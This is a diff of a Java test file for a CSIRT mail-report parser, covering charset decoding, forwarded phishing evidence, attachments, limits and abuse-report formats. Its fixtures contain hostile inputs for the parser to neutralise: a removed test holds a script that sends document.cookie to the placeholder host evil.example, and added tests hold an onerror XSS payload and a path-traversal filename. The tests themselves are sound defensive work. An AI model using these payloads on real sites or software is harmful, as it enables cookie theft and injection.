@@ -1,313 +1,438 @@
 package org.csirtgateway.parse;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.assertj.core.api.Assertions.tuple;
 
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
-import java.time.Instant;
-import java.util.Properties;
-import java.util.Random;
+import java.security.MessageDigest;
+import java.util.Base64;
+import java.util.HexFormat;
+import java.util.List;
 
-import jakarta.mail.Session;
-import jakarta.mail.internet.InternetAddress;
-import jakarta.mail.internet.MimeMessage;
-import org.csirtgateway.testing.RawMail;
+import org.csirtgateway.indicator.Indicator;
+import org.csirtgateway.indicator.IndicatorExtractor;
 import org.junit.jupiter.api.Test;
 
-/**
- * What the parser reads out of one raw message: decoded headers and readable text, whatever charset, structure or
- * damage the reporter's mail system produced. Malformed mail is read as far as it goes, with warnings, never rejected.
- */
 class ReportParserTest {
 
-    private static final String TEAM = "csirt@example.org";
+    private final ReportParser parser = new ReportParser();
+
+    private ParsedReport parse(String mail) throws ParseException {
+        return parser.parse(new ByteArrayInputStream(mail.replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8)));
+    }
+
+    private ParsedReport parse(byte[] mail) throws ParseException {
+        return parser.parse(new ByteArrayInputStream(mail));
+    }
+
+    private static byte[] concat(Object... parts) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        for (Object part : parts) {
+            byte[] bytes = part instanceof byte[] b ? b
+                    : part.toString().replace("\n", "\r\n").getBytes(StandardCharsets.US_ASCII);
+            out.writeBytes(bytes);
+        }
+        return out.toByteArray();
+    }
+
+    // --- limits
 
     @Test
-    void japaneseIso2022JpSubjectAndBodyDecode() throws Exception {
-        MimeMessage mail = new MimeMessage(Session.getInstance(new Properties()));
-        mail.setFrom(new InternetAddress("tanaka@example.jp", "田中 太郎", "ISO-2022-JP"));
-        mail.setRecipient(jakarta.mail.Message.RecipientType.TO, new InternetAddress(TEAM));
-        mail.setSubject("フィッシングサイトの報告", "ISO-2022-JP");
-        mail.setText("偽の銀行サイトを見つけました。\nご確認ください。\n", "ISO-2022-JP");
-        mail.saveChanges();
-        ByteArrayOutputStream raw = new ByteArrayOutputStream();
-        mail.writeTo(raw);
-        assertThat(raw.toString(StandardCharsets.US_ASCII)).as("the test mail is really ISO-2022-JP on the wire")
-                .contains("charset=ISO-2022-JP").doesNotContain("フィッシング");
-
-        ParsedReport report = RawMail.parse(raw.toByteArray());
-
-        assertThat(report.subject()).isEqualTo("フィッシングサイトの報告");
-        assertThat(report.bodyText().lines()).containsExactly("偽の銀行サイトを見つけました。", "ご確認ください。");
-        assertThat(report.fromName()).isEqualTo("田中 太郎");
-        assertThat(report.fromAddress()).isEqualTo("tanaka@example.jp");
-        assertThat(report.warnings()).isEmpty();
+    void messageOverTheSizeLimitIsRefusedNamingTheLimitAndItsValue() {
+        IntakeLimits tiny = new IntakeLimits("tiny", 1_000, 100, 1_000, 5, 10, 500);
+        String mail = "From: a@b.example\nSubject: big\n\n" + "x".repeat(2_000) + "\n";
+        assertThatThrownBy(() -> new ReportParser(tiny, IndicatorExtractor.withoutAllowlist())
+                .parse(new ByteArrayInputStream(mail.getBytes(StandardCharsets.US_ASCII))))
+                .isInstanceOf(LimitExceededException.class)
+                .hasMessageContaining("'message bytes'").hasMessageContaining("1000").hasMessageContaining("tiny");
     }
 
     @Test
-    void mislabelledEucJpBodyIsStillReadable() {
-        String text = "不審なメールの添付ファイルを開いてしまいました。";
-        byte[] raw = concat(("From: sato@example.jp\r\nSubject: report\r\nMIME-Version: 1.0\r\n"
-                        + "Content-Type: text/plain; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n\r\n")
-                        .getBytes(StandardCharsets.US_ASCII),
-                text.getBytes(Charset.forName("EUC-JP")));
-
-        ParsedReport report = RawMail.parse(raw);
-
-        assertThat(report.bodyText()).isEqualTo(text);
-        assertThat(report.warnings()).anySatisfy(warning ->
-                assertThat(warning).contains("ISO-2022-JP").contains("EUC-JP"));
+    void tooManyHeaderFieldsAreRefusedNamingTheLimit() {
+        IntakeLimits tiny = new IntakeLimits("tiny", 100_000, 10, 1_000, 5, 10, 500);
+        String mail = "X-Filler: 1\n".repeat(20) + "From: a@b.example\n\nbody\n";
+        assertThatThrownBy(() -> new ReportParser(tiny, IndicatorExtractor.withoutAllowlist())
+                .parse(new ByteArrayInputStream(mail.getBytes(StandardCharsets.US_ASCII))))
+                .isInstanceOf(LimitExceededException.class).hasMessageContaining("'header count' (10");
     }
 
     @Test
-    void undeclaredUtf8BodyIsReadAsUtf8WithAWarning() {
-        byte[] raw = ("From: a@example.org\r\nSubject: x\r\n\r\nGrüße – 報告").getBytes(StandardCharsets.UTF_8);
+    void attachmentOverTheLimitIsListedButNotKeptAndAWarningNamesTheLimit() throws Exception {
+        IntakeLimits small = new IntakeLimits("small-attachments", 1_000_000, 100, 10_000, 10, 100, 100);
+        String mail = """
+                From: a@b.example
+                Subject: logs
+                Content-Type: multipart/mixed; boundary=b
 
-        ParsedReport report = RawMail.parse(raw);
+                --b
+                Content-Type: text/plain
 
-        assertThat(report.bodyText()).isEqualTo("Grüße – 報告");
-        assertThat(report.warnings()).anySatisfy(warning -> assertThat(warning).contains("UTF-8"));
+                see attached
+                --b
+                Content-Type: application/octet-stream; name=big.bin
+                Content-Disposition: attachment; filename=big.bin
+
+                %s
+                --b--
+                """.formatted("A".repeat(500));
+        ParsedReport report = new ReportParser(small, IndicatorExtractor.withoutAllowlist())
+                .parse(new ByteArrayInputStream(mail.replace("\n", "\r\n").getBytes(StandardCharsets.US_ASCII)));
+        assertThat(report.details().attachments()).singleElement().satisfies(a -> {
+            assertThat(a.filename()).isEqualTo("big.bin");
+            assertThat(a.stored()).isFalse();
+            assertThat(a.sizeBytes()).isGreaterThan(100);
+        });
+        assertThat(report.warnings()).anyMatch(w -> w.contains("'attachment bytes' (100)"));
     }
 
     @Test
-    void htmlOnlyReportBecomesPlainTextWithoutMarkup() {
-        String html = """
-                <html><head><title>Secure Bank</title><style>p { color: red }</style>
-                <script type="text/javascript">alert('owned')</script></head>
-                <body><p>Phishing at <a href="http://phish.example/">phish.example</a> &amp; its mirror</p>
-                <!-- tracking comment -->
-                <p>Tom &quot;the victim&quot; &#39;lost&#39; &#x20AC;100&nbsp;today &AMP; 1 &lt; 2.</p><br>
-                <SCRIPT>document.location='http://evil.example/?'+document.cookie</SCRIPT >
-                <div>Unknown &bogus; entity and a huge &#99999999999; one stay as written.</div>
-                </body></html>""";
-        ParsedReport report = RawMail.from("alice@victim.example")
-                .header("Content-Type", "text/html; charset=UTF-8").body(html).parse();
+    void nestingDeeperThanTheLimitIsAWarningNotAFailure() throws Exception {
+        StringBuilder mail = new StringBuilder("From: a@b.example\nSubject: deep\n");
+        int levels = 30;
+        for (int i = 0; i < levels; i++) {
+            mail.append("Content-Type: multipart/mixed; boundary=b").append(i).append("\n\n--b").append(i)
+                    .append('\n');
+        }
+        mail.append("Content-Type: text/plain\n\ndeep text\n");
+        for (int i = levels - 1; i >= 0; i--) {
+            mail.append("--b").append(i).append("--\n");
+        }
+        ParsedReport report = parse(mail.toString());
+        assertThat(report.warnings()).anyMatch(w -> w.contains("'MIME depth' (20)"));
+    }
 
-        assertThat(report.bodyText())
-                .contains("Phishing at phish.example & its mirror")
-                .contains("Tom \"the victim\" 'lost' €100 today & 1 < 2.")
-                .contains("Unknown &bogus; entity and a huge &#99999999999; one stay as written.")
-                .doesNotContain("alert", "owned", "color: red", "tracking comment", "document", "Secure Bank",
-                        "&amp;", "&quot;", "&nbsp;")
-                .doesNotContainPattern("<\\s*/?\\s*[A-Za-z!]");
+    // --- text as the sender meant it
+
+    @Test
+    void iso2022jpLabelOverAnEucJpBodyIsDecodedAsEucJp() throws Exception {
+        byte[] body = "不正アクセスを確認しました。ご確認ください。".getBytes(Charset.forName("EUC-JP"));
+        ParsedReport report = parse(concat("From: a@b.example\nSubject: x\n"
+                + "Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 8bit\n\n", body, "\n"));
+        assertThat(report.bodyText()).isEqualTo("不正アクセスを確認しました。ご確認ください。");
+        assertThat(report.warnings()).anyMatch(w -> w.contains("decoded as EUC-JP"));
     }
 
     @Test
-    void plainTextAlternativeIsPreferredOverHtml() {
-        String body = """
-                --alt
-                Content-Type: text/html; charset=UTF-8
-
-                <p>HTML version</p>
-                --alt
-                Content-Type: text/plain; charset=UTF-8
-
-                Plain version
-                --alt--
-                """.replace("\n", "\r\n");
-        ParsedReport report = RawMail.from("alice@victim.example")
-                .header("Content-Type", "multipart/alternative; boundary=alt").body(body).parse();
-
-        assertThat(report.bodyText()).isEqualTo("Plain version");
+    void iso2022jpLabelOverAShiftJisBodyIsDecodedAsShiftJis() throws Exception {
+        byte[] body = "フィッシングサイトの報告です。至急対応をお願いします。".getBytes(Charset.forName("windows-31j"));
+        ParsedReport report = parse(concat("From: a@b.example\nSubject: x\n"
+                + "Content-Type: text/plain; charset=iso-2022-jp\nContent-Transfer-Encoding: 8bit\n\n", body, "\n"));
+        assertThat(report.bodyText()).isEqualTo("フィッシングサイトの報告です。至急対応をお願いします。");
     }
 
     @Test
-    void htmlRootAfterAnInlineImageIsRead() {
-        // Outlook and web mailers send HTML with inline images as multipart/related; the image may come first.
-        String body = """
-                --rel
-                Content-Type: image/png
-                Content-Transfer-Encoding: base64
-                Content-Location: image1
+    void rfc2047SubjectAndSenderNameAreDecoded() throws Exception {
+        ParsedReport report = parse("""
+                From: =?ISO-2022-JP?B?GyRCOzNFRBsoQg==?= <yamada@example.jp>
+                Subject: =?UTF-8?B?5LiN5q2j44Ki44Kv44K744K5?=
 
-                iVBORw0KGgo=
-                --rel
-                Content-Type: text/html; charset=UTF-8
-
-                <p>Our web server at 192.0.2.10 was defaced.</p>
-                --rel--
-                """.replace("\n", "\r\n");
-        ParsedReport report = RawMail.from("alice@victim.example")
-                .header("Content-Type", "multipart/related; type=\"text/html\"; boundary=rel").body(body).parse();
-
-        assertThat(report.bodyText()).isEqualTo("Our web server at 192.0.2.10 was defaced.");
-        assertThat(report.attachments()).containsExactly("image/png");
+                body
+                """);
+        assertThat(report.subject()).isEqualTo("不正アクセス");
+        assertThat(report.fromName()).isEqualTo("山田");
+        assertThat(report.fromAddress()).isEqualTo("yamada@example.jp");
     }
 
     @Test
-    void htmlAttachmentNextToPlainTextDoesNotDuplicateTheText() {
-        String body = """
-                --mix
-                Content-Type: text/plain; charset=UTF-8
+    void rawUtf8HeadersAreReadAsUtf8() throws Exception {
+        ParsedReport report = parse("""
+                From: 佐藤 花子 <sato@example.jp>
+                Subject: フィッシング報告 ünïcödé
+                Content-Type: text/plain; charset=utf-8
 
-                See the page below.
-                --mix
-                Content-Type: text/html; charset=UTF-8
-
-                <p>Saved copy of the phishing page</p>
-                --mix--
-                """.replace("\n", "\r\n");
-        ParsedReport report = RawMail.from("alice@victim.example")
-                .header("Content-Type", "multipart/mixed; boundary=mix").body(body).parse();
-
-        assertThat(report.bodyText()).isEqualTo("See the page below.");
+                本文
+                """);
+        assertThat(report.subject()).isEqualTo("フィッシング報告 ünïcödé");
+        assertThat(report.fromName()).isEqualTo("佐藤 花子");
+        assertThat(report.fromAddress()).isEqualTo("sato@example.jp");
     }
 
     @Test
-    void forwardedMessageTextAndHeadersAreIncluded() {
-        String body = """
-                --fwd
-                Content-Type: text/plain; charset=UTF-8
+    void rfc2231FilenameIsDecodedAndSanitised() throws Exception {
+        ParsedReport report = parse("""
+                From: a@b.example
+                Subject: x
+                Content-Type: multipart/mixed; boundary=b
 
-                Forwarding the phishing mail our staff received.
-                --fwd
+                --b
+                Content-Type: text/plain
+
+                see attached
+                --b
+                Content-Type: application/pdf
+                Content-Disposition: attachment; filename*=UTF-8''..%2F..%2F%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf
+
+                %PDF-1.4 fake
+                --b--
+                """);
+        assertThat(report.details().attachments()).singleElement().satisfies(a -> {
+            assertThat(a.filename()).isEqualTo("請求書.pdf");
+            assertThat(a.detectedType()).isEqualTo("application/pdf");
+        });
+    }
+
+    @Test
+    void base64BrokenAtTheEndStillYieldsWhatCanBeDecoded() throws Exception {
+        String encoded = Base64.getEncoder().encodeToString("The phishing kit is at 203.0.113.9 today"
+                .getBytes(StandardCharsets.US_ASCII));
+        ParsedReport report = parse("From: a@b.example\nSubject: x\nContent-Type: text/plain\n"
+                + "Content-Transfer-Encoding: base64\n\n" + encoded.substring(0, encoded.length() - 3) + "*!\n");
+        assertThat(report.bodyText()).startsWith("The phishing kit is at 203.0.113.9");
+    }
+
+    @Test
+    void quotedPrintableBrokenAtTheEndStillYieldsTheText() throws Exception {
+        ParsedReport report = parse("From: a@b.example\nSubject: x\nContent-Type: text/plain; charset=utf-8\n"
+                + "Content-Transfer-Encoding: quoted-printable\n\nCaf=C3=A9 login page =E3=81=\n");
+        assertThat(report.bodyText()).startsWith("Café login page");
+    }
+
+    @Test
+    void htmlOnlyReportBecomesPlainTextWithoutScriptsAndKeepsLinkTargets() throws Exception {
+        ParsedReport report = parse("""
+                From: a@b.example
+                Subject: x
+                Content-Type: text/html; charset=utf-8
+
+                <html><head><style>p{color:red}</style><script>alert('x')</script></head>
+                <body><p>Dear team,</p><p>please look at <a href="http://evil.example.net/login">this page</a>.</p>
+                <img src=x onerror=alert(1)><div>Thanks&nbsp;&amp; regards</div></body></html>
+                """);
+        assertThat(report.bodyText()).contains("Dear team,\nplease look at this page <http://evil.example.net/login>.")
+                .contains("Thanks & regards").doesNotContain("alert").doesNotContain("<p>").doesNotContain("color");
+    }
+
+    // --- forwarded evidence
+
+    @Test
+    void forwardedPhishingMailIsItsOwnMessageWithHeadersBodyAttachmentsAndIndicators() throws Exception {
+        String phish = """
+                Received: from mail.phish.example (mail.phish.example [198.51.100.23]) by mx.victim.example
+                Received: from [10.0.0.5] by mail.phish.example
+                From: "Your Bank" <security@bank-login.example.com>
+                To: alice@victim.example
+                Subject: Verify your account
+                Date: Mon, 2 Mar 2026 10:00:00 +0000
+                Message-ID: <phish-1@bank-login.example.com>
+                Content-Type: multipart/mixed; boundary=inner
+
+                --inner
+                Content-Type: text/plain
+
+                Log in at hxxps://bank-login[.]example[.]com/verify now.
+                --inner
+                Content-Type: text/plain; name=urls.txt
+                Content-Disposition: attachment; filename=urls.txt
+
+                http://second-stage.example.org/payload
+                --inner--
+                """;
+        String nested = Base64.getMimeEncoder().encodeToString(("From: x@y.example\nSubject: inner-most\n\n"
+                + "deepest text\n").replace("\n", "\r\n").getBytes(StandardCharsets.US_ASCII));
+        ParsedReport report = parse("""
+                From: alice@victim.example
+                Subject: Fwd: phishing
+                Content-Type: multipart/mixed; boundary=outer
+
+                --outer
+                Content-Type: text/plain
+
+                I received this phishing mail, see attached.
+                --outer
                 Content-Type: message/rfc822
 
-                From: "Bank Support" <support@phish.example>
-                To: staff@victim.example
-                Subject: =?UTF-8?Q?Your_account_is_locked_=E2=80=93_verify_now?=
-                Message-ID: <phish-1@phish.example>
-                Content-Type: text/plain; charset=UTF-8
-
-                Click hxxp://phish.example/verify to unlock your account.
-                --fwd--
-                """.replace("\n", "\r\n");
-        ParsedReport report = RawMail.from("alice@victim.example")
-                .header("Content-Type", "multipart/mixed; boundary=fwd").body(body).parse();
-
-        assertThat(report.bodyText()).isEqualTo("""
-                Forwarding the phishing mail our staff received.
-
-                ---------- Forwarded message ----------
-                From: Bank Support <support@phish.example>
-                Subject: Your account is locked – verify now
-
-                Click hxxp://phish.example/verify to unlock your account.""");
-        assertThat(report.messageId()).as("the outer message's ID, not the forwarded one")
-                .isEqualTo("report-1@victim.example");
-        assertThat(report.attachments()).isEmpty();
-    }
-
-    @Test
-    void attachmentNamesAreListed() {
-        String body = """
-                --mix
-                Content-Type: text/plain; charset=UTF-8
-
-                Malware sample and logs attached.
-                --mix
-                Content-Type: application/octet-stream; name="invoice.pdf.exe"
-                Content-Disposition: attachment; filename="invoice.pdf.exe"
+                %s
+                --outer
+                Content-Type: message/rfc822
                 Content-Transfer-Encoding: base64
 
-                TVqQAAMAAAAEAAAA
-                --mix
-                Content-Type: text/plain; charset=UTF-8
-                Content-Disposition: attachment; filename="access.log"
-
-                192.0.2.7 - - [03/Mar/2026:10:00:00 +0900] "GET /wp-login.php HTTP/1.1" 200
-                --mix
-                Content-Type: application/zip
-
-                UEsDBAoAAAAAAA==
-                --mix--
-                """.replace("\n", "\r\n");
-        ParsedReport report = RawMail.from("alice@victim.example")
-                .header("Content-Type", "multipart/mixed; boundary=mix").body(body).parse();
-
-        assertThat(report.attachments()).containsExactly("invoice.pdf.exe", "access.log", "application/zip");
-        assertThat(report.bodyText()).as("an attached text file is an attachment, not the report")
-                .isEqualTo("Malware sample and logs attached.");
+                %s
+                --outer--
+                """.formatted(phish.strip(), nested));
+        assertThat(report.bodyText()).isEqualTo("I received this phishing mail, see attached.");
+        List<Evidence> evidence = report.details().evidence();
+        assertThat(evidence).hasSize(2);
+        Evidence first = evidence.get(0);
+        assertThat(first.subject()).isEqualTo("Verify your account");
+        assertThat(first.from()).isEqualTo("Your Bank <security@bank-login.example.com>");
+        assertThat(first.messageId()).isEqualTo("phish-1@bank-login.example.com");
+        assertThat(first.received()).hasSize(2);
+        assertThat(first.bodyText()).contains("Log in at");
+        assertThat(evidence.get(1).subject()).isEqualTo("inner-most");
+        assertThat(evidence.get(1).bodyText()).isEqualTo("deepest text");
+        assertThat(report.details().attachments()).singleElement()
+                .satisfies(a -> assertThat(a.evidencePosition()).isEqualTo(1));
+        assertThat(report.details().indicators()).extracting(Indicator::type, Indicator::value, Indicator::source)
+                .contains(tuple(Indicator.URL, "https://bank-login.example.com/verify", "evidence 1"),
+                        tuple(Indicator.IPV4, "198.51.100.23", "evidence 1 headers"),
+                        tuple(Indicator.URL, "http://second-stage.example.org/payload", "attachment urls.txt"));
+        assertThat(report.searchableText()).contains("Verify your account", "deepest text", "second-stage");
     }
 
     @Test
-    void messageIdsAreStrippedOfBrackets() {
-        ParsedReport report = RawMail.from("alice@victim.example")
-                .messageId("  <reply-2@victim.example>")
-                .header("In-Reply-To", "<ack-1.CSIRT2026-000001@example.org>")
-                .header("References", "<report-1@victim.example>\r\n <ack-1.CSIRT2026-000001@example.org>")
-                .parse();
+    void evidenceForwardedInsideEvidenceRecordsItsParent() throws Exception {
+        ParsedReport report = parse("""
+                From: a@b.example
+                Subject: outer
+                Content-Type: message/rfc822
 
-        assertThat(report.messageId()).isEqualTo("reply-2@victim.example");
-        assertThat(report.inReplyTo()).containsExactly("ack-1.CSIRT2026-000001@example.org");
-        assertThat(report.references())
-                .containsExactly("report-1@victim.example", "ack-1.CSIRT2026-000001@example.org");
+                From: b@c.example
+                Subject: middle
+                Content-Type: message/rfc822
+
+                From: c@d.example
+                Subject: inner
+
+                innermost
+                """);
+        assertThat(report.details().evidence()).extracting(Evidence::subject, Evidence::parentPosition,
+                Evidence::depth).containsExactly(tuple("middle", 0, 1), tuple("inner", 1, 2));
+    }
+
+    // --- attachments
+
+    @Test
+    void attachmentsAreHashedTypedAndTextOnesAreReadable() throws Exception {
+        ParsedReport report = parse("""
+                From: a@b.example
+                Subject: x
+                Content-Type: multipart/mixed; boundary=b
+
+                --b
+                Content-Type: text/plain
+
+                logs attached
+                --b
+                Content-Type: application/octet-stream
+                Content-Disposition: attachment; filename="C:\\\\Users\\\\me\\\\auth.log"
+
+                Failed password for root from 192.0.2.44 port 22
+                --b
+                Content-Type: image/png; name=shot.png
+                Content-Transfer-Encoding: base64
+
+                iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==
+                --b--
+                """);
+        List<Attachment> attachments = report.details().attachments();
+        assertThat(attachments).extracting(Attachment::filename, Attachment::declaredType, Attachment::detectedType)
+                .containsExactly(tuple("auth.log", "application/octet-stream", "text/plain"),
+                        tuple("shot.png", "image/png", "image/png"));
+        Attachment log = attachments.get(0);
+        assertThat(log.text()).contains("Failed password");
+        assertThat(log.sha256()).isEqualTo(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256")
+                .digest(log.content())));
+        assertThat(attachments.get(1).text()).isNull();
+        assertThat(report.searchableText()).contains("Failed password for root");
+        assertThat(report.details().indicators()).contains(new Indicator(Indicator.IPV4, "192.0.2.44",
+                "attachment auth.log"));
+    }
+
+    // --- machine-readable reports
+
+    @Test
+    void arfFeedbackReportFieldsAreStructuredAndSearchable() throws Exception {
+        ParsedReport report = parse("""
+                From: feedback@mailbox.example
+                Subject: Abuse report
+                Content-Type: multipart/report; report-type=feedback-report; boundary=r
+
+                --r
+                Content-Type: text/plain
+
+                This is an abuse report.
+                --r
+                Content-Type: message/feedback-report
+
+                Feedback-Type: abuse
+                User-Agent: SomeGenerator/1.0
+                Version: 1
+                Original-Mail-From: <spammer@spam.example>
+                Arrival-Date: Thu, 8 Mar 2026 14:00:00 EDT
+                Source-IP: 192.0.2.2
+                Reported-Domain: spam.example
+                Reported-URI: http://spam.example/offer
+                Authentication-Results: mx.mailbox.example;
+                  spf=fail smtp.mailfrom=spam.example
+                --r
+                Content-Type: text/rfc822-headers
+
+                Received: from spam.example (spam.example [192.0.2.2])
+                From: spammer@spam.example
+                Subject: Cheap pills
+                --r--
+                """);
+        assertThat(report.details().fields()).extracting(ReportField::format, ReportField::name, ReportField::value)
+                .contains(tuple("ARF", "Feedback-Type", "abuse"), tuple("ARF", "Source-IP", "192.0.2.2"),
+                        tuple("ARF", "Reported-Domain", "spam.example"),
+                        tuple("ARF", "Reported-URI", "http://spam.example/offer"),
+                        tuple("ARF", "Authentication-Results",
+                                "mx.mailbox.example; spf=fail smtp.mailfrom=spam.example"));
+        assertThat(report.details().evidence()).singleElement()
+                .satisfies(e -> assertThat(e.subject()).isEqualTo("Cheap pills"));
+        assertThat(report.searchableText()).contains("Feedback-Type: abuse", "Source-IP: 192.0.2.2");
     }
 
     @Test
-    void missingMessageIdIsNullAndUnbracketedOneIsKept() {
-        assertThat(RawMail.from("alice@victim.example").without("Message-ID").parse().messageId()).isNull();
-        assertThat(RawMail.from("alice@victim.example").messageId("bare-id@victim.example").parse().messageId())
-                .isEqualTo("bare-id@victim.example");
+    void xarfYamlReportFieldsAreStructured() throws Exception {
+        ParsedReport report = parse("""
+                From: abuse@reporter.example
+                Subject: abuse report about 192.0.2.77
+                X-ARF: YES
+                Content-Type: multipart/mixed; boundary=x
+
+                --x
+                Content-Type: text/plain; charset=utf-8
+
+                Login attack from your network.
+                --x
+                Content-Type: text/plain; charset=utf-8; name="report.txt"
+
+                ---
+                Reported-From: abuse@reporter.example
+                Category: abuse
+                Report-Type: login-attack
+                Service: ssh
+                Source: 192.0.2.77
+                Source-Type: ipv4
+                Port: 22
+                --x--
+                """);
+        assertThat(report.details().fields()).extracting(ReportField::format, ReportField::name, ReportField::value)
+                .contains(tuple("X-ARF", "Category", "abuse"), tuple("X-ARF", "Report-Type", "login-attack"),
+                        tuple("X-ARF", "Source", "192.0.2.77"));
     }
 
     @Test
-    void nullReturnPathIsRecognised() {
-        assertThat(RawMail.from("mailer-daemon@mx.example").header("Return-Path", "<>").parse().returnPath())
-                .isEmpty();
-        assertThat(RawMail.from("alice@victim.example").header("Return-Path", " <Alice@Victim.Example>").parse()
-                .returnPath()).isEqualTo("alice@victim.example");
-        assertThat(RawMail.from("alice@victim.example").parse().returnPath()).isNull();
-    }
+    void deliveryStatusFieldsAreStructured() throws Exception {
+        ParsedReport report = parse("""
+                From: MAILER-DAEMON@mx.example
+                Subject: Undelivered Mail
+                Content-Type: multipart/report; report-type=delivery-status; boundary=d
 
-    @Test
-    void senderDateAndRobotHeadersAreRead() {
-        ParsedReport report = RawMail.from("\"Alice Example\" <Alice@Victim.Example>")
-                .header("Auto-Submitted", "auto-generated")
-                .header("List-Id", "<abuse-reports.lists.example>")
-                .header("X-Mailer", "not a robot header")
-                .parse();
+                --d
+                Content-Type: text/plain
 
-        assertThat(report.fromAddress()).isEqualTo("alice@victim.example");
-        assertThat(report.fromName()).isEqualTo("Alice Example");
-        assertThat(report.sender()).isEqualTo("Alice Example <alice@victim.example>");
-        assertThat(report.sentAt()).isEqualTo(Instant.parse("2026-03-03T01:15:00Z"));
-        assertThat(report.robotHeaders()).containsOnly(
-                org.assertj.core.api.Assertions.entry("auto-submitted", "auto-generated"),
-                org.assertj.core.api.Assertions.entry("list-id", "<abuse-reports.lists.example>"));
-    }
+                Your message could not be delivered.
+                --d
+                Content-Type: message/delivery-status
 
-    @Test
-    void garbageBytesDoNotThrowButYieldWarningsOrEmptyText() throws Exception {
-        byte[] random = new byte[64 * 1024];
-        new Random(20260303L).nextBytes(random);
-        byte[][] inputs = {
-            random,
-            new byte[0],
-            "From: a@example.org\r\nSubject: header only, no blank line, no body".getBytes(StandardCharsets.US_ASCII),
-            "this is not a header\r\nneither is this\r\n\r\nbody".getBytes(StandardCharsets.US_ASCII),
-            new byte[] {0, 0, 0, '\r', '\n', '\r', '\n', 0},
-            ("From: <<<@>>>\r\nDate: yesterday-ish\r\nContent-Type: multipart/mixed; boundary=\r\n"
-                    + "Content-Transfer-Encoding: base64\r\n\r\n%%% not base64 %%%")
-                    .getBytes(StandardCharsets.US_ASCII),
-        };
-        for (byte[] input : inputs) {
-            ParsedReport report = new ReportParser().parse(new ByteArrayInputStream(input));
+                Reporting-MTA: dns; mx.example
 
-            assertThat(report.warnings().isEmpty() && !report.bodyText().isEmpty())
-                    .as("a garbage input yields warnings or no text: %s", report)
-                    .isFalse();
-            assertThat(report.sender()).isNotNull();
-        }
-    }
-
-    @Test
-    void emptyInputIsAnEmptyReportWithoutSender() throws Exception {
-        ParsedReport report = new ReportParser().parse(new ByteArrayInputStream(new byte[0]));
-
-        assertThat(report.subject()).isEmpty();
-        assertThat(report.bodyText()).isEmpty();
-        assertThat(report.fromAddress()).isNull();
-        assertThat(report.sender()).isEqualTo("(unknown sender)");
-        assertThat(report.warnings()).contains("No readable From address");
-    }
-
-    private static byte[] concat(byte[] head, byte[] tail) {
-        byte[] all = new byte[head.length + tail.length];
-        System.arraycopy(head, 0, all, 0, head.length);
-        System.arraycopy(tail, 0, all, head.length, tail.length);
-        return all;
+                Final-Recipient: rfc822; nobody@victim.example
+                Action: failed
+                Status: 5.1.1
+                Diagnostic-Code: smtp; 550 5.1.1 User unknown
+                --d--
+                """);
+        assertThat(report.details().fields()).extracting(ReportField::format, ReportField::name, ReportField::value)
+                .containsExactly(tuple("DSN", "Reporting-MTA", "dns; mx.example"),
+                        tuple("DSN", "Final-Recipient", "rfc822; nobody@victim.example"),
+                        tuple("DSN", "Action", "failed"), tuple("DSN", "Status", "5.1.1"),
+                        tuple("DSN", "Diagnostic-Code", "smtp; 550 5.1.1 User unknown"));
     }
 }
